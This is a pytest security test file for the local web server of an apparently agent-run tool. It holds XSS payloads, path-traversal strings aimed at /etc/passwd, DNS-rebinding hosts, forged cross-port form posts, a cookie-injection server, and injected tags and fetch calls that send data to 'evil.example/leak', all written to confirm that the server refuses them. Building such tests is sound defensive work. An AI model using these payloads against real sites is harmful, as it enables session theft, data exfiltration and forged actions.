"""The page, as a hostile hand would reach for it: other sites, other ports, other users, stolen links, forged forms.

What an agent on this machine can do with a link that it stole is in tests/web/test_peers.py.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, Request

from agentos import client
from agentos.client.places import find_run, list_runs
from agentos.web import guard
from agentos.web.pages import run_list
from agentos.web.server import Server
from agentos.web.site import Site
from tests.conftest import copy_repository, git
from tests.web.conftest import Serve, Visitor, aside, hidden_fields, let_in, wait_until
from tests.web.conftest import chromium as chromium
from tests.web.conftest import new_page as new_page
from tests.web.conftest import repo as repo
from tests.web.conftest import serve as serve
from tests.web.conftest import visitor as visitor

pytestmark = pytest.mark.attack

NewPage = Callable[..., Page]
FORM = "application/x-www-form-urlencoded"
HEADERS = (
    "content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy",
    "cross-origin-opener-policy", "cross-origin-resource-policy", "cache-control",
)  # fmt: skip


@pytest.fixture
def asked(repo: Path) -> str:
    """The address of the page of a run that waits for a human."""
    client.run(client.load("ask"), workflow_id="ask-1")
    return address("ask-1")


def address(run: str, page: str = "run", **query: str) -> str:
    return Site().run_url(find_run(run), page, **query)


def is_open(run: str = "ask-1") -> bool:
    return any(gate.open for gate in client.view(run).gates)


def raw(port: int, text: bytes) -> bytes:
    """What comes back for bytes as they are, until the server closes."""
    with closing(socket.create_connection(("127.0.0.1", port), timeout=20)) as connection:
        connection.sendall(text)
        return b"".join(iter(lambda: connection.recv(65536), b""))


# --- other sites ----------------------------------------------------------------------------------------------------


def test_only_names_of_this_machine_are_answered(visitor: Visitor) -> None:
    """A name of somebody else's that leads here (DNS rebinding) is another site, and brings its own scripts."""
    own = visitor.port
    for host in (
        "evil.example", f"evil.example:{own}", f"127.0.0.1.evil.example:{own}", f"localhost.evil.example:{own}", "",
        f"evil.example@127.0.0.1:{own}", f"127.0.0.1:{own}@evil.example", f"127.0.0.1/.evil.example:{own}", "0.0.0.0",
        f"127.0.0.1 evil.example:{own}", f"[::1].evil.example:{own}", "127.1", "2130706433", "127.0.0.1:", "localhost.",
    ):  # fmt: skip
        for path in ("/", "/assets/page.css", "/enter?token=x", "/live"):
            answer = visitor.get(path, host=host)
            assert (answer.status, "Runs" in answer.text) == (421, False), (host, path)
    for host in (f"localhost:{own}", f"[::1]:{own}", "127.0.0.1", "LOCALHOST:7000"):  # behind ssh -L the port differs
        assert visitor.get("/", host=host).status == 200, host
    assert raw(own, b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(own, b"GET / HTTP/1.0\r\n\r\n").startswith(b"HTTP/1.1 421")
    two = b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    assert raw(own, two).startswith(b"HTTP/1.1 400")


def test_no_form_of_another_site_is_taken(asked: str, visitor: Visitor) -> None:
    """Another port of this machine is another site: cookies do not keep it out, these headers do."""
    fields = hidden_fields(visitor.get(asked), "answer") | {"say": "yes"}
    other = f"http://127.0.0.1:{visitor.port + 1}"
    for origin, site in (
        ("https://evil.example", "cross-site"), ("null", "cross-site"), (other, "same-site"), ("null", "same-site"),
        (f"https://{visitor.host}", None), (f"http://localhost:{visitor.port}", None), (other, None), ("null", None),
        (f"http://{visitor.host}.evil.example", None), (f"http://{visitor.host}", "same-site"), ("", None),
        (f"http://{visitor.host}", "cross-site"),
    ):  # fmt: skip
        for mode in ("navigate", "no-cors", "cors"):
            more = {"origin": origin, "sec_fetch_mode": mode} | ({"sec_fetch_site": site} if site else {})
            assert visitor.post("/do/answer", fields, **more).status == 403, more
    for missing in ({}, {"sec-fetch-site": "none"}, {"sec-fetch-site": "same-site", "sec-fetch-mode": "navigate"}):
        sent = {"content-type": FORM, **missing}
        assert visitor.ask("POST", "/do/answer", body="seal=x", headers=sent).status == 403, missing
    for kind in ("text/plain", "multipart/form-data; boundary=x", "application/json", ""):
        assert visitor.post("/do/answer", fields, **{"content-type": kind}).status == 415, kind
    assert is_open()
    assert visitor.post("/do/answer", fields).status == 303


def test_nothing_is_told_to_another_site(asked: str, visitor: Visitor) -> None:
    """Also not as an image, a script, a stream, or by fetch without cors; a link to a page is followed."""
    live = "/live?run=" + asked.removeprefix("/run/")
    for path in ("/", asked, live, "/assets/page.js"):
        for site in ("cross-site", "same-site"):
            for mode in ("no-cors", "cors", "websocket"):
                answer = visitor.get(path, sec_fetch_site=site, sec_fetch_mode=mode)
                assert (answer.status, answer.text) == (403, "Another site asked for this.\n")
        assert visitor.get(path, origin="https://evil.example").status == 403
        assert visitor.get(path, origin="null").status == 403
    assert visitor.get(asked, sec_fetch_site="cross-site", sec_fetch_mode="navigate").status == 200
    assert "access-control-allow-origin" not in visitor.get(asked).headers


def test_no_method_but_get_and_post_does_anything(asked: str, visitor: Visitor) -> None:
    fields = hidden_fields(visitor.get(asked), "answer") | {"say": "yes"}
    for method in ("OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "post"):
        assert visitor.ask(method, "/do/answer").status in (403, 405), method
    assert visitor.get("/do/answer", x_http_method_override="POST").status == 405
    overridden = visitor.post(asked, fields, x_http_method_override="PUT")
    assert overridden.status == 405, "pages take no forms"
    upgrade = {"connection": "Upgrade", "upgrade": "websocket", "sec_websocket_version": "13"}
    answer = visitor.get(asked, **upgrade, sec_websocket_key="dGhlIHNhbXBsZSBub25jZQ==")
    assert answer.status == 200, "no web socket, an ordinary answer"
    assert is_open()


# --- links, cookies and sessions ------------------------------------------------------------------------------------


def test_a_stolen_link_opens_nothing_a_second_time(serve: Serve) -> None:
    server = serve()
    owner, thief = Visitor(server.port), Visitor(server.port)
    token = server.door.new_token()
    assert thief.ask("HEAD", f"/enter?token={token}").status == 403, "a look ahead does not use it up"
    assert owner.get(f"/enter?token={token}").status == 303
    for tried in (token, token.upper(), token[:-1], "", "x", "%00", "é", f"{token}&token={token}"):
        answer = thief.get(f"/enter?token={quote(tried, safe='%&=')}")
        assert (answer.status, "set-cookie" in answer.headers) == (403, False), tried
    assert thief.get("/").status == 403
    thief.cookie = f"agentos_{server.port}={token}"
    assert thief.get("/").status == 403
    assert owner.get("/").status == 200


def test_the_link_is_in_no_page_referrer_or_log(
    asked: str, serve: Serve, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    server = serve()
    link = server.new_link(asked)
    token, found = link.partition("token=")[2].partition("&")[0], Visitor(server.port)
    entered = found.get(link.partition(str(server.port))[2])
    assert entered.headers["location"] == asked
    value = found.cookie.partition("=")[2]
    answers = [entered, *(found.get(path) for path in ("/", asked, "/nothing", "/enter?token=x", asked + "?at=0"))]
    answers.append(found.post("/do/pause", {"seal": value, "sealed": token}))
    for answer in answers:
        told = answer.text + str({name: one for name, one in answer.headers.items() if name != "set-cookie"})
        assert token not in told
        assert value not in told
        assert answer.headers["referrer-policy"] == "same-origin"
    printed = caplog.text + "".join(capfd.readouterr())
    assert token not in printed
    assert value not in printed


def test_a_link_leads_to_no_other_site_and_brings_no_header(serve: Serve) -> None:
    server = serve()
    for to in (
        "//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)", "evil.example", "",
        "/%0d%0aX-Evil:1", "/%0aX-Evil:1", "/%09/evil.example", "%09//evil.example", "/%00", "%2f%2fevil.example",
        "%5c%5cevil.example", " //evil.example", "/%e2%80%ae",
    ):  # fmt: skip
        answer = Visitor(server.port).get(f"/enter?token={server.door.new_token()}&to={quote(to, safe='%')}")
        assert (answer.status, answer.headers["location"]) == (303, "/"), to
        assert "x-evil" not in answer.headers
    answer = Visitor(server.port).get(f"/enter?token={server.door.new_token()}&to=/./%5cevil.example")
    assert answer.headers["location"] == "/./%5Cevil.example"


def test_cookies_of_other_ports_neither_lock_out_nor_let_in(serve: Serve) -> None:
    """Ports share their cookies: another server of this machine can send any, also under our name."""
    server = serve()
    found = let_in(server)
    name, good = found.cookie.split("=")
    for cookie in (
        f"{name}=evil; {name}={good}", f"{name}={good}; {name}=evil", f'x={{"a": 1}}; {name}={good}',
        f'bad name="; {name}={good}', f"; ;=;{name}={good};\x01", f"é=ü; {name}={good}", f'a="b;{name}={good}',
        f"{'x=y; ' * 1000}{name}={good}",
    ):  # fmt: skip
        found.cookie = cookie.encode().decode("latin-1")
        assert found.get("/").status == 200, cookie[:80]
    for cookie in (f"{name}=evil", f"{name}=", f"{name}", f"{name[:-1]}={good}", f"x{name}={good}", f"{name}={good}x"):
        found.cookie = cookie
        assert found.get("/").status == 403, cookie
    fixed = Visitor(server.port)  # a session that somebody chose for us is none
    fixed.cookie = f"{name}={'0' * 48}"
    assert fixed.get(f"/enter?token={server.door.new_token()}").status == 303
    assert "0" * 48 not in fixed.cookie


def test_a_session_does_not_outlive_its_server(asked: str, serve: Serve) -> None:
    first, second = serve(), serve()
    before, now = let_in(first), let_in(second)
    stale = before.get(asked)
    before.port, before.host = second.port, f"127.0.0.1:{second.port}"
    assert before.get("/").status == 403
    before.cookie = before.cookie.replace(str(first.port), str(second.port))
    assert before.get("/").status == 403
    answer = now.submit(stale, "answer", say="yes")
    assert (answer.status, "This form is out of date" in answer.text) == (409, True)
    assert is_open()


def test_other_users_of_the_machine_are_turned_away(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    """They see the link in the arguments of the browser, and cookies are sent to their servers, too."""
    found = let_in(server := serve())
    for user, status in ((os.getuid(), 200), (0, 200), (None, 200), (os.getuid() + 1, 403), (65534, 403)):
        monkeypatch.setattr(guard, "user_of", lambda request, user=user: user)
        assert found.get("/").status == status, user
    token = server.door.new_token()
    assert found.get(f"/enter?token={token}").status == 403
    monkeypatch.undo()
    assert found.get(f"/enter?token={token}").status == 303, "it was not used up"


@pytest.mark.skipif(os.getuid() != 0 or sys.platform != "linux", reason="only root can be somebody else")
def test_the_kernel_says_whose_request_it_is(visitor: Visitor) -> None:
    program = (
        "import http.client, sys; c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]));"
        "c.request('GET', '/', headers={'Cookie': sys.argv[2]}); print(c.getresponse().status)"
    )
    asked = ["/usr/bin/env", "python3", "-c", program, str(visitor.port), visitor.cookie]
    as_nobody = subprocess.run(asked, user=65534, group=65534, extra_groups=[], capture_output=True, text=True)
    as_we_are = subprocess.run(asked, capture_output=True, text=True)
    assert (as_nobody.stdout, as_we_are.stdout) == ("403\n", "200\n"), as_nobody.stderr


def test_it_listens_on_loopback_alone(serve: Serve) -> None:
    port = f":{serve().port:04X}"
    rows = [
        line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/self/net/{name}").read_text().splitlines()
    ]
    assert [row[1] for row in rows if row[1].endswith(port) and row[3] == "0A"] == [f"0100007F{port}"]


# --- forms ----------------------------------------------------------------------------------------------------------


def test_a_form_is_good_for_its_session_run_and_action_alone(asked: str, serve: Serve) -> None:
    client.run(client.load("ask"), workflow_id="ask-2")
    server = serve()
    ours, theirs = let_in(server), let_in(server)
    page = ours.get(asked)
    answer, abort = (hidden_fields(page, name) for name in ("answer", "abort"))
    other_run = hidden_fields(ours.get(address("ask-2")), "answer")
    other_session = hidden_fields(theirs.get(asked), "answer")
    say = {"say": "yes"}
    edited = {"sealed": answer["sealed"].replace("ask-1", "ask-2")}
    for name, fields in {
        "of another action": (("answer", abort | say), ("abort", answer)),
        "of another session": (("answer", other_session | say),),
        "edited": (("answer", answer | edited | say), ("answer", answer | {"sealed": answer["sealed"] + " "} | say)),
        "put together": (("answer", other_run | {"seal": answer["seal"]} | say),),
        "empty": (("answer", {"sealed": "", "seal": ""}), ("answer", {}), ("answer", {"sealed": "{}", "seal": "é"})),
    }.items():
        for action, sent in fields:
            got = ours.post(f"/do/{action}", sent)
            assert (got.status, "This form is out of date" in got.text) == (409, True), name
    assert ours.post("/do/nothing", answer).status == 404
    forged = "&".join(
        f"sealed={quote(one['sealed'])}&seal={one['seal']}" for one in ({"sealed": "{}", "seal": "x"}, answer)
    )
    sent = {"content-type": FORM, "origin": f"http://{ours.host}"}
    assert ours.ask("POST", "/do/answer", body=f"{forged}&say=yes", headers=sent).status == 409, "the first one counts"
    named = answer | say | {"run": "ask-2", "gate": "approve:before", "key": "x"}
    assert is_open("ask-1")
    assert ours.post("/do/answer", named).status == 303, "what is named beside the seal is passed over"
    assert (is_open("ask-1"), is_open("ask-2")) == (False, True)
    again = ours.post("/do/answer", answer | say)
    assert (again.status, "already answered" in again.text) == (409, True), "sent once more it answers nothing"


def test_a_form_that_is_too_much_is_refused(visitor: Visitor) -> None:
    sent = {"content-type": FORM, "origin": f"http://{visitor.host}"}
    for body, status in (("a=1&" * 10_001, 400), ("a=" + "x" * 1024 * 1024, 413), ("%ff%00=%ed%a0%80&seal=%ed", 409)):
        assert visitor.ask("POST", "/do/abort", body=body, headers=sent).status == status
    assert visitor.get("/").status == 200


def test_who_is_not_let_in_is_refused_before_a_body_is_read(serve: Serve) -> None:
    port = serve().port
    head = f"POST /do/abort HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: http://127.0.0.1:{port}\r\n"
    with closing(socket.create_connection(("127.0.0.1", port), timeout=20)) as connection:
        connection.sendall(f"{head}Content-Type: {FORM}\r\nContent-Length: 1000000000\r\n\r\na".encode())
        assert connection.recv(100).startswith(b"HTTP/1.1 403")


# --- addresses ------------------------------------------------------------------------------------------------------


def test_no_address_leads_to_another_file(asked: str, repo: Path, visitor: Visitor) -> None:
    (repo.parent / "secret.txt").write_text("secret words")
    key, up = asked.split("/")[2], "..%2f" * 8
    told = [
        f"../../../../../..{repo.parent}/secret.txt",
        f"{repo.parent}/secret.txt",
        "before/../../secret.txt",
        "before\0",
    ]
    pages = ("output?task", "log?task", "run?task", "gate?gate")
    names = [f"/{page.replace('?', f'/{key}/ask-1?')}={quote(name)}" for name in told for page in pages]
    for path in (
        "/assets/../guard.py", "/assets/..%2fguard.py", "/assets/%2e%2e%2fguard.py", "/assets/..%5cguard.py",
        "/assets/page.css%00", "/assets/css/base.css", "/assets/", f"/assets/{up}etc/passwd", "/assets/%2fetc%2fpasswd",
        f"/run/{key}/{up}etc%2fpasswd", f"/run/{up}/ask-1", f"/run/{key}/%00", f"/run/{key}/ask-1%00",
        f"/run/{key}/ask", f"/run/{key}.Ii4uLyI/ask-1", f"/run/{key}.%ff/ask-1", f"/run/{key}.{'A' * 9000}/ask-1",
        f"/run/{key}/ask-1%0d%0aX:1",
        f"/log/{key}/..", f"/compare/{key}/ask-1?a=..%2f..&b=--help", f"/restore/{key}/ask-1?checkpoint=--help",
        f"/fork/{key}/ask-1?checkpoint=..%2f", f"/live?run={key}/..%2f&task=..%2f..%2fetc", "/..%2f..%2fetc%2fpasswd",
        "//etc/passwd", *names,
    ):  # fmt: skip
        answer = visitor.get(path)
        # A page that has no use for what was named is as it always is.
        is_same_page = answer.status == 200 and (path.startswith("/live") or answer.headers["content-type"] != "")
        assert answer.status in (400, 404) or is_same_page, (path, answer.status)
        assert not re.search("secret words|root:|from __future__|--panel", answer.text), path
        assert "x" not in answer.headers


def test_long_addresses_make_no_long_pages(asked: str, visitor: Visitor) -> None:
    usual = len(visitor.get(asked).text)
    long = "&".join(f"unfold={'x' * 150}{number}" for number in range(300))
    assert len(visitor.get(f"{asked}?{long}").text) < usual + 100_000
    assert visitor.get(f"/?q={'%25' * 20_000}").status == 200
    assert visitor.get(f"/?{'label=a&' * 2_000}").status == 200
    assert raw(visitor.port, b"GET /?" + b"a" * 70_000).startswith(b"HTTP/1.1 400")


# --- headers --------------------------------------------------------------------------------------------------------


def test_every_answer_says_what_a_browser_may_do_with_it(
    asked: str, visitor: Visitor, serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    task = asked.replace("/run/", "/output/") + "?task=before"
    paths = ("/", asked, task, task.replace("/output/", "/log/"), "/assets/page.css", "/assets/page.js", "/assets/no",
             "/nothing", "/run/x/y", "/enter?token=x", "/do/pause", asked + "?at=x")  # fmt: skip
    answers = {path: visitor.get(path) for path in paths}
    answers |= {
        "a stranger": Visitor(visitor.port).get("/"),
        "another name": visitor.get("/", host="evil.example"),
        "another site": visitor.get("/", origin="https://evil.example"),
        "another method": visitor.ask("PUT", "/"),
        "a forged form": visitor.post("/do/pause", {"seal": "x"}),
        "a redirect": Visitor(visitor.port).get(let_in_again(serve())),
    }

    def broken(*arguments: object) -> None:
        raise RuntimeError("secret words")

    monkeypatch.setattr(run_list, "list_runs", broken)
    answers["our own fault"] = visitor.get("/")
    assert answers["our own fault"].status == 500
    assert "secret words" not in answers["our own fault"].text
    for name, answer in answers.items():
        assert [header for header in HEADERS if header not in answer.headers] == [], name
        policy = answer.headers["content-security-policy"]
        assert "unsafe" not in policy, name
        assert "server" not in answer.headers, name
        is_ours = name.startswith("/assets/page")
        assert answer.headers["cache-control"] == ("private, max-age=3600" if is_ours else "no-store"), name


def let_in_again(server: Server) -> str:
    return server.new_link().partition(str(server.port))[2]


# --- what runs write ------------------------------------------------------------------------------------------------

NASTY = (
    "<script>fetch('/pwned')</script><img src=/pwned onerror=\"fetch('/pwned')\"><svg onload=fetch('/pwned')>"
    "\"'></textarea></title></pre>&lt;b{{7*1111111}}{%x%}javascript:fetch('/pwned') \x1b[2J\x9b31m\u202egnp.\u2066\x07"
)
"""In every place where a run can put text."""
RAW = ("<script>fetch", "<img", "<svg onload", "\x1b", "\x9b", "\u202e", "\u2066", "\x07", "7777777", "</title></pre>")
FILE = "<img src=x onerror=alert(1)>\x1b[31m\u202e.txt"


@pytest.fixture
def nasty(tmp_path: Path, home: Path, _git_template: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, list[str]]:
    """A worktree whose name is hostile, with runs whose every text is; and the addresses of their pages."""
    root = copy_repository(_git_template, tmp_path / "<svg onload=alert(1)>\u202e{{7*7}}")
    monkeypatch.chdir(root)
    (root / "print.py").write_text(f"print({NASTY!r}, end='')\n")
    (root / FILE).write_text("before\n")
    git("add", ".", cwd=root)
    git("commit", "--quiet", "--message", "all", cwd=root)
    task, other = NASTY[:60], NASTY[80:180].split("\x1b")[0]
    edit = f"{sys.executable} print.py; {sys.executable} print.py >&2; cat *.txt; {sys.executable} print.py > *.txt"
    told = {"run": edit, "description": NASTY}
    asks = {"needs": [task, other], "approve": {"question": NASTY, "file": FILE}, "run": f"echo '{NASTY[:30]}'"}
    long = "import sys; sys.stdout.write('<i>' * 1_700_000); sys.stdout.flush(); raise ValueError(sys.argv[1])"
    failing = {"run": f"{edit}; {shlex.join([sys.executable, '-c', long, NASTY])}"}
    flows: dict[str, dict[str, object]] = {
        "<svg onload=alert(1)>": {task: told, other: told, "ask": asks},
        "<b>bad</b>": {other: failing},
    }
    for run, tasks in flows.items():
        flow = {"name": NASTY[:100] + run, "params": {"name": NASTY}, "tasks": tasks}
        (root / f"{len(tasks)}.yaml").write_text(json.dumps(flow))
        client.run(client.load(f"{len(tasks)}.yaml"), workflow_id=run, check=False)
    asked, failed = "<svg onload=alert(1)>", "<b>bad</b>"
    client.deliver(asked, client.types.Pause(reason=NASTY))
    pages = [address(asked, page) for page in ("run", "gate", "compare", "resume", "fork", "restore", "undo")]
    pages += [address(asked, task=one) for one in (task, other, "ask", NASTY)]
    pages += [
        address(run, page, task=one) for run, one in ((asked, task), (failed, other)) for page in ("output", "log")
    ]
    pages += [address(failed), address(failed, task=other), address(failed, "resume"), address(failed, at="4")]
    query = "&".join(f"{name}={quote(NASTY)}" for name in ("q", "name", "label", "before"))
    pages += ["/", f"/?{query}", f"{pages[0]}?at=3&unfold={quote(NASTY)}", f"{pages[0]}?at={quote(NASTY)}"]
    return root, [*pages, address(asked, "fork", checkpoint=NASTY), f"/run/x/{quote(NASTY, safe='')}"]


def test_what_runs_write_is_text_on_every_page_and_a_look_changes_nothing(
    nasty: tuple[Path, list[str]], serve: Serve
) -> None:
    root, pages = nasty
    visitor = let_in(serve(repo=root))
    before = state_of(root)
    for page in pages:
        answer = visitor.get(page)
        assert answer.status in (200, 400, 404), page
        if answer.headers["content-type"] != "text/plain; charset=utf-8":
            # What a form sends back has to be what it was: there, in a field, controls stand as they are.
            told = re.sub(r'(<input[^>]* value="[^"]*")|(<textarea[^>]*>[^<]*)', "", answer.text)
            assert [one for one in RAW if one in told] == [], page
            assert "javascript:" not in re.findall(r'(?:href|src|action)="([^"]{11})', answer.text), page
        assert len(answer.text) < 100_000 or page.startswith("/log/"), page
    for run in ("<svg onload=alert(1)>", "<b>bad</b>"):
        assert visitor.get(address(run)).status == 200, "any id has its page, a slash in it or not"
    assert state_of(root) == before


def state_of(root: Path) -> tuple[list[object], str]:
    """Of all runs, and of the worktree."""
    return [one.record for one in list_runs(root).runs], git("status", "--porcelain", cwd=root)


def watch(page: Page) -> list[str]:
    """What a page runs or asks for that it should not, from now on."""
    found: list[str] = []

    def hear_request(request: Request) -> None:
        if request.url.endswith("/pwned"):
            found.append(request.url)

    page.on("request", hear_request)
    page.expose_function("violated", lambda what: found.append(what))
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => violated(`${e.violatedDirective} ${e.blockedURI}`));"
        "window.alert = violated;"
    )
    return found


@pytest.mark.full
def test_nothing_that_runs_write_runs_in_a_browser(
    nasty: tuple[Path, list[str]], serve: Serve, new_page: NewPage, tmp_path: Path
) -> None:
    from agentos.web.static_page import static_page

    root, pages = nasty
    server = serve(repo=root)
    page = new_page(server)
    found = watch(page)
    tags = "script, img, iframe, object, embed, base, meta, link, style, [style], [onload], [onerror]"
    for one in pages:
        page.goto(f"http://127.0.0.1:{server.port}{one}", wait_until="commit" if one.startswith("/log/") else "load")
        assert page.locator(f"main :is({tags})").count() == 0, one
    page.goto(f"http://127.0.0.1:{server.port}{pages[0]}")
    page.get_by_text("live", exact=True).wait_for()
    events = page.locator(".events tr")
    before = events.count()
    aside(lambda: client.deliver("<svg onload=alert(1)>", client.types.Pause(reason=NASTY + "again")))
    wait_until(lambda: events.count() > before)
    (tmp_path / "run.html").write_text(static_page(find_run("<svg onload=alert(1)>", root)))
    page.goto((tmp_path / "run.html").as_uri())
    page.get_by_role("heading", name="Events").wait_for()
    assert found == []


@pytest.mark.full
def test_a_policy_stands_behind_all_that(asked: str, serve: Serve, chromium: Browser, new_page: NewPage) -> None:
    """Were a text to become a tag after all: nothing inline runs, and nothing leaves this machine."""
    server = serve()
    new_page(server)  # sets up the loop
    context = chromium.new_context()
    page = context.new_page()
    page.goto(server.new_link(asked))
    found = watch(page)
    page.goto(page.url)
    for tag in (
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a id=bad href='javascript:alert(1)'>x</a>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<style>body{display:none}</style>",
        "<img src='https://evil.example/leak'>", "<p style='position:fixed'>x</p>",
        "<base href='https://evil.example/'>", "<form id=out action='https://evil.example/'><input name=a></form>",
    ):  # fmt: skip
        page.evaluate("tag => { document.querySelector('main').insertAdjacentHTML('beforeend', tag); }", tag)
    page.evaluate(
        "() => { document.querySelector('#bad').click(); document.querySelector('#out').submit();"
        "const s = document.createElement('script'); s.textContent = 'alert(1)'; document.body.append(s);"
        "fetch('https://evil.example/leak').catch(() => 0); }"
    )
    wanted = [
        "base-uri",
        "connect-src",
        "form-action",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
    ]
    wait_until(lambda: page.evaluate("1") and {one.partition(" ")[0] for one in found} >= {*wanted}, within_s=10)
    assert "1" not in found, "no script ran"
    context.close()


# --- another port, in a real browser --------------------------------------------------------------------------------


class Elsewhere(ThreadingHTTPServer):
    """A server on another port of this machine, which the same browser opens."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.got: list[str] = []
        """Cookies that it was sent."""
        self.cookies: list[str] = []
        """What it sets."""
        self.page = "<!doctype html><title>elsewhere</title>"
        self.url = f"http://127.0.0.1:{self.server_port}/"


class _Answers(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.got.append(self.headers.get("cookie", ""))
        self.send_response(200)
        self.send_header("content-type", "text/html")
        for cookie in self.server.cookies:
            self.send_header("set-cookie", cookie)
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


ATTACK = """async ([base, path, live, fields]) => {
  const told = {};
  const body = new URLSearchParams(fields);
  const image = (url) => new Promise((done) => { const one = new Image(); one.onload = () => done("shown");
    one.onerror = () => done("nothing"); one.src = url; });
  const script = (url) => new Promise((done) => { const one = document.createElement("script");
    one.onload = () => done("ran"); one.onerror = () => done("nothing"); one.src = url; document.head.append(one); });
  const stream = (url) => new Promise((done) => { const one = new EventSource(url, {withCredentials: true});
    one.onopen = () => done("open"); one.onerror = () => { one.close(); done("nothing"); }; });
  const read = (url, how) => fetch(url, {credentials: "include", ...how})
    .then((answer) => answer.text().then((text) => text || answer.type), () => "nothing");
  told.read = await read(base + path);
  told.opaque = await read(base + path, {mode: "no-cors"});
  told.post = await read(base + "/do/answer", {method: "POST", body});
  told.blind = await read(base + "/do/answer", {method: "POST", body, mode: "no-cors"});
  told.plain = await read(base + "/do/answer",
    {method: "POST", body: body.toString(), mode: "no-cors", headers: {"content-type": "text/plain"}});
  told.beacon = navigator.sendBeacon(base + "/do/answer", body) ? "sent" : "nothing";
  told.image = await image(base + "/assets/page.css");
  told.script = await script(base + "/assets/page.js");
  told.stream = await stream(base + live);
  const frame = document.createElement("iframe");
  frame.src = base + path;
  document.body.append(frame);
  await new Promise((done) => { frame.onload = done; });
  told.frame = frame.contentDocument ? "readable" : "nothing";
  return told;
}"""


@pytest.mark.full
def test_a_page_on_another_port_neither_reads_nor_answers(
    asked: str, serve: Serve, elsewhere: Elsewhere, chromium: Browser, new_page: NewPage
) -> None:
    """It is the same site for cookies, so that the browser sends ours along; and it has a form that is sealed."""
    server = serve()
    base, live = f"http://127.0.0.1:{server.port}", "/live?run=" + asked.removeprefix("/run/")
    ours = new_page(server, asked)
    fields = ours.locator("form[action='/do/answer'] input[type=hidden]").evaluate_all(
        "all => all.map(i => [i.name, i.value])"
    )
    fields.append(["say", "yes"])
    page = ours.context.new_page()
    page.goto(elsewhere.url)
    told = page.evaluate(ATTACK, [base, asked, live, fields])
    assert told == {
        "read": "nothing", "opaque": "nothing", "post": "nothing", "blind": "nothing", "plain": "nothing",
        "beacon": "sent", "image": "nothing", "script": "nothing", "stream": "nothing", "frame": "nothing",
    }  # fmt: skip
    assert "Ship it?" not in (page.frames[1].content() if len(page.frames) > 1 else "")
    page.evaluate(
        "([base, fields]) => { const form = document.createElement('form'); form.method = 'post';"
        "form.action = base + '/do/answer'; for (const [name, value] of fields) { const one = "
        "document.createElement('input'); one.name = name; one.value = value; form.append(one); }"
        "document.body.append(form); form.submit(); }",
        [base, fields],
    )
    page.wait_for_url("**/do/answer")
    assert "Another site asked for this." in page.content()
    assert is_open()
    page.goto(elsewhere.url)
    page.set_content(f"<a href='{base}{asked}' target=_blank rel=opener>go</a>")
    with page.expect_popup() as opened:
        page.get_by_text("go").click()
    opened.value.get_by_text("Ship it?").first.wait_for()
    assert opened.value.evaluate("window.opener") is None, "it followed a link, and that window is out of reach"


@pytest.mark.full
def test_a_server_on_another_port_that_is_opened_gets_the_cookie_and_can_set_it(
    asked: str, serve: Serve, elsewhere: Elsewhere, new_page: NewPage
) -> None:
    """Said so in docs/security.md: cookies know no ports. What it sets lets nobody in and locks nobody out for long."""
    server = serve()
    page = new_page(server, asked)
    base, name = f"http://127.0.0.1:{server.port}", f"agentos_{server.port}"
    elsewhere.cookies = [f"{name}=evil; Path=/run", 'odd={"a": "1;2"}; Path=/']
    page.goto(elsewhere.url)
    assert f"{name}=" in elsewhere.got[-1]
    page.goto(base + asked)
    page.get_by_text("Ship it?").first.wait_for()
    elsewhere.cookies = [f"{name}=evil; Path=/"]
    page.goto(elsewhere.url)
    page.goto(base + "/")
    page.get_by_text("This browser is not let in").wait_for()
    page.goto(server.new_link(asked))
    page.get_by_text("Ship it?").first.wait_for()
